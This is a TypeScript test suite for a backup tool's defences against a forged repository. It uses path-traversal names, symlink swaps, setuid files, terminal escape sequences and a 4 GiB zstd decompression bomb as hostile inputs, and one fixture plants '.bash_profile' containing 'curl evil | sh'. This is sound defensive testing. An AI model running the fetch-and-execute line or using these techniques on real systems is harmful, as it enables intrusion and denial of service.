/**
 * A repository written by someone who stole its key (test/helpers/hostile.ts writes it as they
 * would; it stays valid restic format). For each hostile thing, restore, drill, verify and
 * download touch nothing outside their target, run nothing, stay under 300 MB RSS and exit with a
 * documented code:
 * - snapshot metadata naming the database `../../escaped.db` or an absolute path, and naming its
 *   source and job `constructor`;
 * - two snapshots of one folder, the first with a symlink `a` to a folder outside, the second with
 *   a real folder `a/` (restored one after the other into the same target);
 * - setuid files: restored into a folder they lose the bits (root's and other owners'); with
 *   --keep-set-id they keep them only with their own owner, so an unprivileged restore of a
 *   setuid-root file leaves none;
 * - a zstd frame expanding to 4 GiB behind an index entry that claims 1 MiB, and one claiming 4 GiB.
 * Dumps carrying shell escapes are in test/databases/hostile-dumps.test.ts (the same suite, per engine).
 * Every command runs as the real CLI (or `hoard serve`) under /usr/bin/time for its peak RSS.
 */
import { describe, it, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import {
  chmod,
  chown,
  copyFile,
  lstat,
  mkdir,
  readFile,
  readdir,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import * as path from 'node:path';
import { CLI, ROOT, hoard, run, tempDir } from '../helpers/services.js';
import { CLEAN_ENV } from '../helpers/project.js';
import { addServerSection, serve } from '../helpers/api.js';
import { bombBlob, forgeFile, forgeSnapshot, newest, openAsAttacker } from '../helpers/hostile.js';

const LIMIT_KIB = 300 * 1024;

interface Timed {
  code: number;
  stdout: string;
  stderr: string;
  rssKiB: number;
}

/** The CLI under /usr/bin/time: exit code, output and peak RSS. */
async function timed(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}, prefix: string[] = []): Promise<Timed> {
  const r = await run('/usr/bin/time', ['-f', 'PEAK_RSS_KIB %M', ...prefix, process.execPath, CLI, ...args], {
    cwd,
    env: { ...process.env, ...CLEAN_ENV, ...env },
  });
  const m = /PEAK_RSS_KIB (\d+)\s*$/.exec(r.stderr);
  assert.ok(m, `no RSS figure: ${r.stderr}`);
  const stderr = r.stderr
    .slice(0, m.index)
    .replace(/^Command (exited with non-zero status|terminated by signal) \d+$/m, '')
    .trim();
  return { code: r.code, stdout: r.stdout, stderr, rssKiB: Number(m[1]) };
}

function bounded(r: Timed, what: string): void {
  assert.ok(r.rssKiB < LIMIT_KIB, `${what}: peak RSS ${Math.round(r.rssKiB / 1024)} MB`);
  assert.ok(!/\n\s+at /.test(r.stderr), `${what}: a stack trace: ${r.stderr}`);
  assert.ok(r.stderr.split('\n').length <= 3, `${what}: more than a short message: ${r.stderr}`);
}

/** Every path below `dir` (folders included), sorted. */
async function tree(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true }).catch(() => [])) {
    const p = path.join(dir, e.name);
    out.push(p);
    if (e.isDirectory()) out.push(...(await tree(p)));
  }
  return out.sort();
}

/** A project with the sample SQLite database, its first backup taken; hoard's temporary folders go to dir/tmp. */
async function project(t: TestContext, extra = ''): Promise<{ dir: string; env: NodeJS.ProcessEnv; password: string }> {
  const dir = await tempDir(t, 'hoard-hostile-');
  await copyFile(path.join(ROOT, 'sample', 'app.db'), path.join(dir, 'app.db'));
  await mkdir(path.join(dir, 'tmp'));
  const env = { TMPDIR: path.join(dir, 'tmp') };
  const init = await hoard(['init', '--yes'], { cwd: dir, env: { ...CLEAN_ENV, ...env } });
  assert.equal(init.code, 0, init.stderr);
  if (extra)
    await writeFile(path.join(dir, 'hoard.yaml'), `${await readFile(path.join(dir, 'hoard.yaml'), 'utf8')}${extra}`);
  return { dir, env, password: (await readFile(path.join(dir, '.hoard', 'password'), 'utf8')).trim() };
}

describe('a hostile repository', () => {
  it('metadata naming the database ../../escaped.db or an absolute path, and source and job "constructor": nothing is written outside, nothing crashes', async (t) => {
    const { dir, env, password } = await project(t, 'restore_targets:\n  scratch: { path: scratch }\n');
    const repo = await openAsAttacker(path.join(dir, '.hoard', 'repo'), password);
    const real = await newest(repo);
    const meta = real.snapshot.hoard as Record<string, unknown> & { database: Record<string, unknown> };
    const db = await readFile(path.join(dir, 'app.db'));
    const abs = path.join(dir, 'abs-escaped.db');
    const forged: string[] = [];
    const far = `/tmp/escaped-${path.basename(dir)}.db`; // climbs out of every folder to /tmp
    for (const name of ['../../escaped.db', abs, `../../../../../../../..${far}`]) {
      // the file under the name a restore looks for (a tree name is one component): only the metadata lies
      forged.push(
        await forgeSnapshot(repo, {
          files: { [path.basename(name)]: db },
          hoard: {
            ...meta,
            job: 'constructor',
            source: { name: 'constructor', type: 'sqlite' },
            database: { ...meta.database, name },
          },
          tags: real.snapshot.tags,
        }),
      );
    }
    await repo.close();
    const outside = async () => [
      ...(await tree(dir)).filter((p) => /escaped/.test(p)),
      ...[far].filter((p) => existsSync(p)),
    ];
    await mkdir(path.join(dir, 'scratch'));
    for (const id of forged) {
      const drill = await timed(['verify', id.slice(0, 12), '--drill'], dir, env);
      bounded(drill, 'drill');
      assert.equal(drill.code, 0, `the drill restores into a name of its own and passes: ${drill.stderr}`);
      const into = await timed(['restore', id.slice(0, 12), '--target', 'scratch'], dir, env);
      bounded(into, 'restore into a restore target folder');
      assert.equal(into.code, 5, into.stderr);
      assert.match(into.stderr, /names its database .*, which is not a file name; nothing was restored/);
      const folder = await timed(['restore', id.slice(0, 12), '--target', path.join(dir, 'scratch')], dir, env);
      assert.equal(folder.code, 5, folder.stderr);
      const byDefault = await timed(['restore', id.slice(0, 12), '--dry-run'], dir, env);
      bounded(byDefault, 'restore to the default target');
      assert.equal(byDefault.code, 1, byDefault.stderr);
      assert.match(byDefault.stderr, /a target is never taken from the repository/);
      const read = await timed(['verify', id.slice(0, 12)], dir, env);
      assert.equal(read.code, 0, read.stderr);
      const dump = await timed(['dump', id.slice(0, 12), '--output', path.join(dir, 'out-dump'), '--force'], dir, env);
      assert.equal(dump.code, 0, dump.stderr);
    }
    assert.deepEqual(await outside(), [], 'no file was written where the metadata points');
    assert.deepEqual(await readdir(path.join(dir, 'scratch')), []);
    assert.deepEqual(await readdir(path.join(dir, 'tmp')), [], 'the drills left nothing behind');
    const list = await timed(['list', '--json'], dir, env);
    assert.equal(list.code, 0, list.stderr);
    // a file name and a label that would reach a home folder or drive the terminal
    const again = await openAsAttacker(path.join(dir, '.hoard', 'repo'), password);
    const dot = await forgeSnapshot(again, {
      files: { '.bash_profile': Buffer.from('curl evil | sh\n') },
      hoard: { kind: 'manual', label: 'x\u001b]0;PWNED\u0007\u001b[2J', reason: 'r\u001b[31m' },
    });
    await again.close();
    const dump = await timed(['dump', dot.slice(0, 12)], dir, env);
    assert.equal(dump.code, 1, dump.stderr);
    assert.match(dump.stderr, /names its file "\.bash_profile", which hoard does not write without being told/);
    assert.equal(existsSync(path.join(dir, '.bash_profile')), false);
    for (const args of [['list'], ['info', dot.slice(0, 12)], ['ls', dot.slice(0, 12)]]) {
      const shown = await timed(args, dir, env);
      assert.equal(shown.code, 0, shown.stderr);
      assert.ok(
        !shown.stdout.includes('\u001b') && !shown.stdout.includes('\u0007'),
        `${args[0]} printed a control character: ${JSON.stringify(shown.stdout)}`,
      );
    }
  });

  it('a symlink to a folder outside, then a folder of the same name: the second restore writes only inside the target', async (t) => {
    const dir = await tempDir(t, 'hoard-hostile-links-');
    const env = { HOARD_REPOSITORY: path.join(dir, 'repo'), HOARD_PASSWORD: 'pw' };
    assert.equal((await hoard(['init'], { env })).code, 0);
    const outside = path.join(dir, 'outside');
    await mkdir(outside);
    await writeFile(path.join(outside, 'x'), 'must stay');
    await chmod(outside, 0o755);
    const data = path.join(dir, 'data');
    await mkdir(data);
    await symlink(outside, path.join(data, 'a'));
    assert.equal((await hoard(['backup', 'data'], { cwd: dir, env })).code, 0);
    await rm(path.join(data, 'a'));
    await mkdir(path.join(data, 'a', 'deep'), { recursive: true });
    await writeFile(path.join(data, 'a', 'x'), 'from the second snapshot');
    await writeFile(path.join(data, 'a', 'deep', 'y'), 'deep');
    await chmod(path.join(data, 'a'), 0o777);
    assert.equal((await hoard(['backup', 'data'], { cwd: dir, env })).code, 0);
    const ids = (JSON.parse((await hoard(['snapshots', '--json'], { env })).stdout) as { id: string; time: string }[])
      .sort((a, b) => a.time.localeCompare(b.time))
      .map((s) => s.id);
    const target = path.join(dir, 'target');
    const before = { list: await tree(outside), mode: (await stat(outside)).mode };
    for (const id of ids) {
      const r = await timed(['restore', id, '--target', target], dir, env);
      bounded(r, 'restore');
      assert.equal(r.code, 0, r.stderr);
    }
    assert.deepEqual(await tree(outside), before.list, 'nothing was written in the folder the link pointed to');
    assert.equal(await readFile(path.join(outside, 'x'), 'utf8'), 'must stay');
    assert.equal((await stat(outside)).mode, before.mode, 'nor was it chmod-ed');
    assert.ok((await lstat(path.join(target, 'data', 'a'))).isDirectory(), 'the link was replaced by a real folder');
    assert.equal(await readFile(path.join(target, 'data', 'a', 'x'), 'utf8'), 'from the second snapshot');
  });

  it("setuid: a setuid-root file restored by an unprivileged user loses the bit; another owner's keeps it only when restored with that owner", async (t) => {
    if (process.getuid?.() !== 0) return t.skip('needs root to make files of other owners');
    const dir = await tempDir(t, 'hoard-hostile-setuid-');
    await chmod(dir, 0o755); // uid 1234 walks through it to its own copy
    const env = { HOARD_REPOSITORY: path.join(dir, 'repo'), HOARD_PASSWORD: 'pw' };
    assert.equal((await hoard(['init'], { env })).code, 0);
    const data = path.join(dir, 'data');
    await mkdir(data);
    await writeFile(path.join(data, 'root-tool'), '#!/bin/sh\nid\n');
    await chmod(path.join(data, 'root-tool'), 0o4755);
    await writeFile(path.join(data, 'their-tool'), '#!/bin/sh\nid\n');
    await chown(path.join(data, 'their-tool'), 1234, 1234);
    await chmod(path.join(data, 'their-tool'), 0o6755);
    assert.equal((await hoard(['backup', 'data'], { cwd: dir, env })).code, 0);
    // as root into a folder: owners are restored, set-id bits are not (a hostile snapshot's
    // setuid-root file would be a way in for whoever reaches the folder); --keep-set-id keeps them with their owners
    const asRoot = path.join(dir, 'as-root');
    const r = await timed(['restore', 'latest', '--target', asRoot], dir, env);
    assert.equal(r.code, 0, r.stderr);
    for (const tool of ['root-tool', 'their-tool'])
      assert.equal((await stat(path.join(asRoot, 'data', tool))).mode & 0o6000, 0, tool);
    assert.equal((await stat(path.join(asRoot, 'data', 'their-tool'))).uid, 1234);
    const kept = path.join(dir, 'kept');
    assert.equal((await timed(['restore', 'latest', '--target', kept, '--keep-set-id'], dir, env)).code, 0);
    const theirs = await stat(path.join(kept, 'data', 'their-tool'));
    assert.equal(theirs.uid, 1234);
    assert.equal(theirs.mode & 0o7777, 0o6755, 'kept with its own owner');
    assert.equal((await stat(path.join(kept, 'data', 'root-tool'))).mode & 0o7777, 0o4755);
    // as uid 1234 (its own copy of the repository): nothing it writes is setuid-root
    await run('cp', ['-a', path.join(dir, 'repo'), path.join(dir, 'repo-1234')]);
    await run('chown', ['-R', '1234:1234', path.join(dir, 'repo-1234')]);
    const mine = path.join(dir, 'as-user');
    await mkdir(mine);
    await chown(mine, 1234, 1234);
    const u = await timed(
      ['restore', 'latest', '--target', mine, '--keep-set-id'],
      mine,
      { HOARD_REPOSITORY: path.join(dir, 'repo-1234'), HOARD_PASSWORD: 'pw', HOME: mine },
      ['setpriv', '--reuid=1234', '--regid=1234', '--clear-groups'],
    );
    bounded(u, 'unprivileged restore');
    assert.equal(u.code, 0, u.stderr);
    const tool = await stat(path.join(mine, 'data', 'root-tool'));
    assert.equal(tool.uid, 1234);
    assert.equal(tool.mode & 0o6000, 0, `no setuid bit on a file of uid ${tool.uid}`);
    assert.equal(tool.mode & 0o777, 0o755, 'the rest of the mode is restored');
    const own = await stat(path.join(mine, 'data', 'their-tool'));
    assert.equal(own.mode & 0o7777, 0o6755, 'a setuid file of the user itself keeps its bits');
  });

  it('a zstd frame that expands to 4 GiB: restore, dump, verify, check and the API download fail as damaged within 300 MB', async (t) => {
    const { dir, env, password } = await project(t);
    const repo = await openAsAttacker(path.join(dir, '.hoard', 'repo'), password);
    const real = await newest(repo);
    const hoardMeta = { ...(real.snapshot.hoard as Record<string, unknown>) };
    const GiB4 = 4 * 1024 ** 3;
    const honest = await bombBlob(repo, { expandTo: GiB4, declared: 1024 * 1024 });
    const claims = await bombBlob(repo, { expandTo: GiB4, declared: 2 ** 32 - 1, byte: 0x62, fakeId: true }); // a pack header holds 32 bits
    const dumps = [honest, claims].map((id) =>
      forgeFile(repo, { name: 'app.db', content: [id], size: GiB4, hoard: hoardMeta }),
    );
    const [small, big] = await Promise.all(dumps);
    const files = await forgeFile(repo, { name: 'big.bin', content: [honest], size: GiB4 });
    await repo.close();
    const out = path.join(dir, 'out');
    await mkdir(out);
    const runs: [string, string[]][] = [];
    for (const id of [small, big]) {
      const ref = id.slice(0, 12);
      runs.push(
        ['restore', ['restore', ref, '--target', path.join(out, 'restored.db')]],
        ['dump', ['dump', ref, '--output', path.join(out, 'dump.db')]],
        ['verify', ['verify', ref, '--subset', '100%']],
      );
    }
    runs.push(
      ['files restore', ['restore', files.slice(0, 12), '--target', out]],
      ['check --read-data', ['check', '--read-data']],
    );
    for (const [what, args] of runs) {
      const r = await timed(args, dir, env);
      bounded(r, what);
      assert.equal(r.code, 5, `${what}: ${r.stderr}`);
    }
    assert.deepEqual(await tree(out), [], 'nothing was written');
    // the API download: the server stays within the bound and sends no 4 GiB
    const { dl } = await addServerSection(dir, [['dl', 'download']]);
    const s = await serve(t, dir);
    for (const id of [small, big]) {
      const res = await fetch(`${s.base}/backups/${id}/download`, { headers: { authorization: `Bearer ${dl.token}` } });
      const body = await res.arrayBuffer().then(
        (b) => b.byteLength,
        () => -1,
      );
      assert.ok(res.status !== 200 || body < 64 * 1024 * 1024, `status ${res.status}, ${body} bytes`);
    }
    const status = await readFile(`/proc/${s.child.pid}/status`, 'utf8');
    const hwm = Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1]);
    assert.ok(hwm > 0 && hwm < LIMIT_KIB, `hoard serve peaked at ${Math.round(hwm / 1024)} MB`);
  });
});
